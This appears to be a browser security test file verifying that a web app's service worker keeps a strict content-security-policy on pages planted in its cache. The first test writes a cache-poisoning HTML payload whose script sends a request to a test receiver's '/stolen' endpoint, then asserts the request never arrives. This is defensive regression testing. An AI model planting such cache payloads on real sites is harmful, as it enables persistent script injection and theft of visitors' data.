/** A script that ran once in a page of this origin, by whatever way, writes into the service worker's cache, to stay for good. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { startReceiver } from '../../../tools/receiver.mjs';
import { Visitor } from '../browser.mjs';

/** @type {Visitor} */
let visitor;
let receiver;
before(async () => {
  visitor = await Visitor.arrive();
  receiver = await startReceiver();
});
after(async () => {
  await visitor.depart();
  await receiver.close();
});

test('a kiosk without a policy, put into the cache once, is served ever after and reaches a receiver', async () => {
  const page = await visitor.visit({ camera: 'ask', serviceWorkers: 'allow' });
  await page.evaluate(async () => {
    const registration = await navigator.serviceWorker.ready;
    const worker = registration.active;
    if (worker.state !== 'activated') await new Promise((resolve) => worker.addEventListener('statechange', () => worker.state === 'activated' && resolve()));
  });
  await page.evaluate(async (address) => {
    const html = { headers: { 'Content-Type': 'text/html' } };
    const code = `<h1>kiosk</h1><script>fetch(${JSON.stringify(`${address}/stolen`)}, { mode: 'no-cors' })</script>`;
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      await cache.put(`${location.origin}/kiosk.html`, new Response(code, html));
      await cache.put(`${location.origin}/assets/planted.0123456789.html`, new Response(code, html));
      await cache.put(`${location.origin}/assets/planted.0123456789.js`, new Response('1', { headers: { 'Content-Type': 'text/html' } }));
    }
  }, receiver.url);
  for (const path of ['kiosk.html', 'assets/planted.0123456789.html', 'assets/planted.0123456789.js', 'kiosk.html']) {
    const answer = await page.goto(`${visitor.server.url}/${path}`);
    await page.waitForTimeout(1_000);
    assert.match(answer.headers()['content-security-policy'] ?? '', /default-src 'none'/, path);
  }
  assert.equal(await page.locator('#kiosk').count(), 1);
  assert.deepEqual(receiver.received.filter((what) => what.includes('stolen')), []);
});

test('the policy is taken away from a page that is served from the cache', async () => {
  const page = await visitor.visit({ camera: 'ask', serviceWorkers: 'allow' });
  await page.evaluate(async () => {
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        if (!request.url.endsWith('prove.html')) continue;
        await cache.put(request, new Response(await (await cache.match(request)).arrayBuffer(), { headers: { 'Content-Type': 'text/html' } }));
      }
    }
  });
  const answer = await page.goto(`${visitor.server.url}/prove.html`);
  assert.equal(answer.fromServiceWorker(), true);
  assert.equal(answer.headers()['connection-allowlist'], '(response-origin)');
  assert.match(answer.headers()['content-security-policy'], /default-src 'none'[^]*frame-ancestors 'none'/);
});
